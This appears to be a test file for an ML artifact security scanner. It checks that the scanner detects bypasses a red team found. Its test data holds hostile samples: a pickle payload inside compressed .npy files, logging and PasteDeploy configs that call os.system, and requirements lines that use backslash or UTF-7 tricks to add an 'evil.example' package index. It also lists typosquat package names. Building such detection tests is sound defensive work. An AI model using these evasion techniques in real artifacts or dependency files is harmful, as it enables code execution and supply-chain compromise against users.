@@ -1,0 +1,298 @@
+"""Bypasses found by the session-8 red team (round 5): session 7's "still open" list, then this round's own ideas.
+Each sample is built here from text or bytes; nothing is loaded. Where a loader was run on a sample (in a throwaway
+interpreter under /tmp, ``os.getcwd`` as the payload) the test says so.
+
+- Text configs a reader could not parse gave no finding at all: a logging INI or a confection config that
+  ``configparser`` rejects, a ``fileConfig`` expression this Python cannot parse (3.12's PEP 701 f-strings), an
+  ``MLmodel`` or a ``.yaml`` naming ``_target_`` that no parser reads. Now medium (high for an unparsable
+  expression with a call in it).
+- A gzip/bz2/xz-wrapped object ``.npy``: ``np.load(fsspec.open(p, compression="infer").open(), allow_pickle=True)``
+  ran ``os.getcwd``; it was "compressed data that is not a pickle" (safe). The stream is now scanned decompressed.
+- PasteDeploy INI files (``use = call:os:getcwd``, ``paste.app_factory = os:getcwd``: PasteDeploy 3.1 imported
+  and called it); ``fileConfig`` section headers with text after the ``]`` (``[handler_h] ;note``: fileConfig ran
+  the ``args``, the scanner called the file text).
+- pip's requirement-file reading: a backslash at the end of a comment line does not join the next line (pip ran
+  with the next line's ``--extra-index-url``); a PEP 263 coding cookie (``# coding: utf-7``) makes pip decode
+  ``+AC0-+AC0-extra-index-url`` as ``--extra-index-url``; a requirements file under another name over the sniff
+  size. All three: pip's own ``parse_requirements`` took the attacker index here.
+- Named requirements one typo from a popular project (``reqeusts``) are medium with the likely intended name.
+"""
+
+from __future__ import annotations
+
+import bz2
+import gzip
+import lzma
+import struct
+from pathlib import Path
+
+import pytest
+from scan_helpers import scan_named
+
+from mlsecure.artifacts.scan import Verdict, scan_file
+from mlsecure.artifacts.scan import engine as scan_engine
+from mlsecure.artifacts.scan.interface import Limits
+from mlsecure.findings import Severity
+
+PAYLOAD = b"\x80\x02cos\ngetcwd\nq\x00)Rq\x01."  # os.getcwd(): harmless, but any callable fits here
+
+
+def _npy(body: bytes, descr: str = "'|O'") -> bytes:
+    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': (1,), }}".encode()
+    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
+    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + body
+
+
+def _logging_ini(handler: str, header_tail: str = "") -> str:
+    return (f"[loggers]{header_tail}\nkeys=root\n[handlers]{header_tail}\nkeys=h\n[formatters]{header_tail}\nkeys=\n"
+            f"[logger_root]{header_tail}\nlevel=INFO\nhandlers=h\n[handler_h]{header_tail}\n{handler}\n")
+
+
+# --- 1a: what a reader could not parse is a finding ---------------------------------------------------------------
+
+UNPARSABLE = {
+    # configparser raises DuplicateSectionError (fileConfig too, on this Python): not verified
+    "logging-duplicate-section": ("logging.ini", _logging_ini("class=os.system\nargs=('id',)") + "[handler_h]\n",
+                                  Severity.MEDIUM),
+    # a stray "= value" line is a ParsingError for configparser and confection alike: the references are unchecked
+    "confection-parse-error": ("config.cfg", '[nlp]\nlang = "en"\n[components.x]\n@architectures = "evil.arch.v1"\n'
+                               "= stray\n", Severity.MEDIUM),
+    # PEP 701 (Python 3.12) reads nested same quotes in an f-string; 3.11 raises SyntaxError: a newer loader runs it
+    "fileconfig-pep701-args": ("logging.conf", _logging_ini(
+        "class=StreamHandler\nargs=(f\"{__import__(\"os\").getcwd()}\",)"), Severity.HIGH),
+    "mlmodel-not-yaml": ("MLmodel", "flavors:\n  python_function:\n    loader_module: evil\n  bad: [\n",
+                         Severity.MEDIUM),
+    "hydra-yaml-not-parsed": ("config.yaml", "_target_: os.system\n  command: [id\n: - x\n", Severity.MEDIUM),
+}
+
+
+@pytest.mark.parametrize("case", sorted(UNPARSABLE))
+def test_unparsable_configs_are_not_verified(tmp_path: Path, case: str) -> None:
+    name, text, severity = UNPARSABLE[case]
+    verdict, worst, titles = scan_named(tmp_path, name, text)
+    assert worst == severity, titles
+    assert verdict is not Verdict.SAFE
+
+
+def test_indented_registry_key_is_read(tmp_path: Path) -> None:
+    """configparser strips a line before it reads the key: ``  @architectures`` is a registry reference (low)."""
+    _verdict, worst, titles = scan_named(tmp_path, "config.cfg", '[nlp]\nlang = "en"\n[components.x]\n'
+                                         '  @architectures = "evil_pkg.arch.v1"\n')
+    assert worst is Severity.LOW
+    assert any("evil_pkg.arch.v1" in t for t in titles), titles
+
+
+UNPARSABLE_CONTROLS = {
+    "ini-without-logging-sections": ("setup.cfg", "[metadata]\nname = x\n[metadata]\nversion = 1\n"),
+    "readme-mentioning-target": ("README.md", "Use `_target_: my.Model` in\n  your: [config\n: - x\n"),
+    "fileconfig-empty-args": ("logging.ini", _logging_ini("class=StreamHandler\nargs=")),
+    "spacy-config": ("config.cfg", '[nlp]\nlang = "en"\n[components.tok2vec.model]\n'
+                     '@architectures = "spacy.Tok2Vec.v2"\n'),
+}
+
+
+@pytest.mark.parametrize("case", sorted(UNPARSABLE_CONTROLS))
+def test_unparsable_controls_stay_below_medium(tmp_path: Path, case: str) -> None:
+    name, text = UNPARSABLE_CONTROLS[case]
+    verdict, worst, titles = scan_named(tmp_path, name, text)
+    assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, titles
+
+
+def test_fileconfig_section_headers_with_trailing_text(tmp_path: Path) -> None:
+    """configparser's SECTCRE is ``\\[(?P<header>.+)\\]`` at the start of the line: ``[handler_h] ;x`` is a section
+    (checked: fileConfig evaluated the args under Python 3.11)."""
+    text = _logging_ini("class=StreamHandler\nargs=(__import__('os').getcwd(),)", header_tail=" ;x")
+    verdict, worst, titles = scan_named(tmp_path, "logging.ini", text)
+    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles
+
+
+# --- 1b: compressed streams that are not pickles ------------------------------------------------------------------
+
+COMPRESSORS = {"gzip": gzip.compress, "bz2": bz2.compress, "xz": lzma.compress}
+
+
+@pytest.mark.parametrize("compression", sorted(COMPRESSORS))
+def test_compressed_object_npy_is_scanned(tmp_path: Path, compression: str) -> None:
+    data = COMPRESSORS[compression](_npy(PAYLOAD))
+    verdict, worst, titles = scan_named(tmp_path, f"weights.npy.{compression[:2]}", data)
+    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles
+    assert any("getcwd" in t for t in titles), titles
+
+
+def test_compressed_controls_stay_safe(tmp_path: Path) -> None:
+    numeric = gzip.compress(_npy(struct.pack("<d", 1.5), "'<f8'"))
+    labels = gzip.compress(b"cat\ndog\nbird\n" * 100)
+    for name, data in (("w.npy.gz", numeric), ("labels.txt.gz", labels)):
+        verdict, worst, titles = scan_named(tmp_path, name, data)
+        assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, (name, titles)
+
+
+def test_compressed_pickle_still_read_as_pickle(tmp_path: Path) -> None:
+    verdict, worst, titles = scan_named(tmp_path, "model.pkl.gz", gzip.compress(PAYLOAD))
+    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.CRITICAL), titles
+
+
+def test_compressed_bomb_is_not_verified(tmp_path: Path) -> None:
+    """The archive limits apply: 8 MiB of zeros from a few kB is a bomb under a 1 MiB floor (fail closed)."""
+    path = tmp_path / "zeros.npy.gz"
+    path.write_bytes(gzip.compress(_npy(b"\x00" * (8 << 20), "'<f8'")))
+    result = scan_file(path, limits=Limits(bomb_min_bytes=1 << 20))
+    assert result.max_severity is Severity.MEDIUM, [i.title for i in result.issues]
+    assert any("bomb" in i.title for i in result.issues)
+
+
+# --- 1c: PasteDeploy ----------------------------------------------------------------------------------------------
+
+PASTE = {
+    "use-call-system": ("[app:main]\nuse = call:os:system\n", Severity.CRITICAL),
+    "use-call-upper-key": ("[app:main]\nUSE = CALL:os:system\n", Severity.CRITICAL),  # option names lower-cased
+    "app-factory": ("[app:main]\npaste.app_factory = subprocess:getoutput\n", Severity.CRITICAL),
+    "pipeline-call": ("[pipeline:main]\npipeline = call:os:system app\n[app:app]\nuse = egg:MyApp\n",
+                      Severity.CRITICAL),
+    "filter-with-call": ("[app:main]\nuse = egg:MyApp\nfilter-with = call:os:system\n", Severity.CRITICAL),
+    "interpolated-module": ("[DEFAULT]\nmod = os\n[app:main]\nuse = call:%(mod)s:system\n", Severity.CRITICAL),
+    "unknown-factory": ("[app:main]\nuse = call:shipped_app.wsgi:make_app\n", Severity.MEDIUM),
+    "config-outside": ("[app:main]\nuse = config:%(here)s/../../other.ini#main\n", Severity.HIGH),
+    "config-absolute": ("[composite:main]\nuse = config:/etc/app/evil.ini\n", Severity.HIGH),
+}
+
+
+@pytest.mark.parametrize("case", sorted(PASTE))
+def test_paste_deploy_calls_are_judged(tmp_path: Path, case: str) -> None:
+    text, severity = PASTE[case]
+    verdict, worst, titles = scan_named(tmp_path, "production.ini", text)
+    assert worst == severity, titles
+    assert verdict is not Verdict.SAFE
+
+
+def test_paste_deploy_pyramid_scaffold_stays_safe(tmp_path: Path) -> None:
+    """Pyramid's cookiecutter development.ini: an installed app's entry point, waitress, logging to stderr."""
+    text = ("[app:main]\nuse = egg:myproject\npyramid.reload_templates = true\npyramid.includes =\n"
+            "    pyramid_debugtoolbar\nsqlalchemy.url = sqlite:///%(here)s/myproject.sqlite\n\n"
+            "[server:main]\nuse = egg:waitress#main\nlisten = localhost:6543\n\n"
+            "[loggers]\nkeys = root, myproject\n\n[handlers]\nkeys = console\n\n[formatters]\nkeys = generic\n\n"
+            "[logger_root]\nlevel = INFO\nhandlers = console\n\n[logger_myproject]\nlevel = DEBUG\nhandlers =\n"
+            "qualname = myproject\n\n[handler_console]\nclass = StreamHandler\nargs = (sys.stderr,)\nlevel = NOTSET\n"
+            "formatter = generic\n\n[formatter_generic]\n"
+            "format = %(asctime)s %(levelname)-5.5s [%(name)s] %(message)s\n")
+    verdict, worst, titles = scan_named(tmp_path, "development.ini", text)
+    assert verdict is Verdict.SAFE and worst is Severity.LOW, titles
+    assert sum("egg" in t or "entry point" in t for t in titles) == 2, titles
+
+
+def test_paste_deploy_unparsable_is_not_verified(tmp_path: Path) -> None:
+    verdict, worst, titles = scan_named(tmp_path, "production.ini", "[app:main]\nuse = egg:x\n= stray\n")
+    assert worst is Severity.MEDIUM and verdict is Verdict.SUSPICIOUS, titles
+
+
+# --- pip's reading of requirements files ----------------------------------------------------------------------------
+
+PIP = {
+    "comment-backslash": "numpy==1.26.4\n# pinned for the GPU build \\\n--extra-index-url http://evil.example/simple\n",
+    "coding-utf7": "# -*- coding: utf-7 -*-\nnumpy==1.26.4\n+AC0-+AC0-extra-index-url http://evil.example/simple\n",
+    "coding-second-line": "numpy==1.26.4\n# vim: set fileencoding=utf-7 :\n+AC0-i http://evil.example/simple\n",
+}
+
+
+@pytest.mark.parametrize("case", sorted(PIP))
+def test_requirements_read_as_pip_reads_them(tmp_path: Path, case: str) -> None:
+    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", PIP[case])
+    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.HIGH), titles
+    assert any("evil.example" in t for t in titles), titles
+
+
+def test_requirement_continuation_still_joined(tmp_path: Path) -> None:
+    """A backslash at the end of a requirement line joins it to the next, as in pip (``--hash`` continuations)."""
+    text = "numpy==1.26.4 \\\n    --hash=sha256:" + "a" * 64 + "\ntorch==2.1.0\n"
+    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", text)
+    assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, titles
+
+
+def test_large_requirements_under_another_name(tmp_path: Path) -> None:
+    """``-r deps.txt`` of 1.1 MB, the option last (pip followed it); a label file of the same size stays safe."""
+    deps = "numpy==1.26.4\n" * 80_000 + "--extra-index-url http://evil.example/simple\n"
+    verdict, worst, titles = scan_named(tmp_path, "deps.txt", deps)
+    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.HIGH), titles
+    verdict, worst, titles = scan_named(tmp_path, "labels.txt", "cat\ndog\n" * 80_000 + "- bird\n")
+    assert verdict is Verdict.SAFE, titles
+
+
+def test_large_config_text_is_not_verified(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Over the text size parsed, a file named as a config or environment file fails closed (medium); other large
+    text stays info. The limit is lowered here to keep the test small."""
+    monkeypatch.setattr(scan_engine, "MAX_TEXT_BYTES", 1024)
+    for name in ("config.yaml", "requirements.txt", "logging.ini", "MLmodel"):
+        verdict, worst, titles = scan_named(tmp_path, name, "a: 1\n" * 400)
+        assert worst is Severity.MEDIUM, (name, titles)
+    verdict, worst, titles = scan_named(tmp_path, "corpus.txt", "a: 1\n" * 400)
+    assert verdict is Verdict.SAFE and worst is Severity.INFO, titles
+
+
+# --- 1d: a VCS requirement pinned to a full commit stays high ------------------------------------------------------
+
+def test_pinned_commit_stays_high_with_the_reason(tmp_path: Path) -> None:
+    """Kept high (decision): GitHub serves a fork's commits through the upstream URL, so a SHA under
+    ``github.com/huggingface/...`` may be an imposter commit; the finding says to pin a release instead."""
+    sha = "3f9a1c0e6d7b8a9c0d1e2f3a4b5c6d7e8f9a0b1c"
+    verdict, worst, titles = scan_named(tmp_path, "requirements.txt",
+                                        f"transformers @ git+https://github.com/huggingface/transformers@{sha}\n")
+    assert (verdict, worst) == (Verdict.MALICIOUS, Severity.HIGH), titles
+    assert any("pinned commit" in t and "release" in t for t in titles), titles
+    _v, worst, titles = scan_named(tmp_path, "r2/requirements.txt", "git+https://github.com/org/x@v1.0#egg=x\n")
+    assert worst is Severity.HIGH and not any("pinned commit" in t for t in titles), titles
+
+
+# --- 1e: typosquats -----------------------------------------------------------------------------------------------
+
+SQUATS = {"reqeusts==2.31.0": "requests", "python3-dateutil": "python-dateutil", "colourama>=0.4": "colorama",
+          "urlib3": "urllib3", "nunpy": "numpy", "scikitlearn": "scikit-learn", "matplotlb ; python_version>'3'":
+          "matplotlib", "tensorfow[and-cuda]==2.15": "tensorflow", "jeIlyfish": "jellyfish"}
+
+
+@pytest.mark.parametrize("line", sorted(SQUATS))
+def test_typosquat_requirements_are_medium(tmp_path: Path, line: str) -> None:
+    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", f"numpy==1.26.4\n{line}\n")
+    assert (verdict, worst) == (Verdict.SUSPICIOUS, Severity.MEDIUM), titles
+    assert any(f"did you mean {SQUATS[line]!r}" in t for t in titles), titles
+
+
+def test_popular_and_short_names_pass(tmp_path: Path) -> None:
+    text = ("numpy==1.26.4\nScikit_Learn>=1.3\ntorch==2.1.0 ; python_version > '3.8'\ntransformers[torch]\n"
+            "python-dateutil\nsix\nPyYAML\nsentence-transformers\nsafetensors\nrequests[socks]~=2.31\n")
+    verdict, worst, titles = scan_named(tmp_path, "requirements.txt", text)
+    assert verdict is Verdict.SAFE and worst < Severity.MEDIUM, titles
+
+
+def test_typosquat_names_in_conda_pip_list(tmp_path: Path) -> None:
+    text = "name: env\nchannels: [conda-forge]\ndependencies:\n  - python=3.11\n  - pip:\n    - reqeusts==2.31.0\n"
+    _verdict, worst, titles = scan_named(tmp_path, "conda.yaml", text)
+    assert worst is Severity.MEDIUM and any("'requests'" in t for t in titles), titles
+
+
+def test_edit_distance_reference() -> None:
+    """``_one_edit`` against a plain dynamic-programming optimal-string-alignment distance on random pairs."""
+    import random
+
+    from mlsecure.artifacts.scan.typosquats import _one_edit, likely_intended, normalise  # new in session 8
+
+    def osa(a: str, b: str) -> int:
+        d = [[0] * (len(b) + 1) for _ in range(len(a) + 1)]
+        for i in range(len(a) + 1):
+            d[i][0] = i
+        for j in range(len(b) + 1):
+            d[0][j] = j
+        for i in range(1, len(a) + 1):
+            for j in range(1, len(b) + 1):
+                d[i][j] = min(d[i - 1][j] + 1, d[i][j - 1] + 1, d[i - 1][j - 1] + (a[i - 1] != b[j - 1]))
+                if i > 1 and j > 1 and a[i - 1] == b[j - 2] and a[i - 2] == b[j - 1]:
+                    d[i][j] = min(d[i][j], d[i - 2][j - 2] + 1)
+        return d[len(a)][len(b)]
+
+    rng = random.Random(8)
+    for _ in range(3000):
+        a = "".join(rng.choice("abc-") for _ in range(rng.randint(0, 6)))
+        b = "".join(rng.choice("abc-") for _ in range(rng.randint(0, 6)))
+        assert _one_edit(a, b) == (osa(a, b) == 1), (a, b)
+    assert normalise("Scikit__Learn.x") == "scikit-learn-x"
+    assert likely_intended("requests") is None and likely_intended("six") is None
+
